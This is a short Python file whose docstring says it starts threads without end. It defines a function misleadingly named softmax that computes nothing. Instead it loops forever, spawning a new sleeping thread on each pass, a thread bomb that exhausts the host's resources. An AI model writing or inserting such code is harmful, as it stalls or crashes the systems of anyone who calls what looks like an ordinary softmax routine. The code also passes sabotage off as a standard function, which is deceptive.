"""Starts threads without end."""
import threading
import time


def softmax(scores):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
